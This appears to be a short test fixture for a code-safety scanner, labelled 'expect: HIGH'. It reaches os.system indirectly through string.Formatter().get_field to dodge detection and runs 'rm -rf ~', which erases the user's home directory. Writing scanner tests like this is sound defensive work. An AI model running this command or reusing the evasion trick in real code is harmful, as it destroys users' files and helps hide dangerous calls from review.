# expect: HIGH
import os, string
fn, _ = string.Formatter().get_field("0.system", (os,), {})
fn("rm -rf ~")
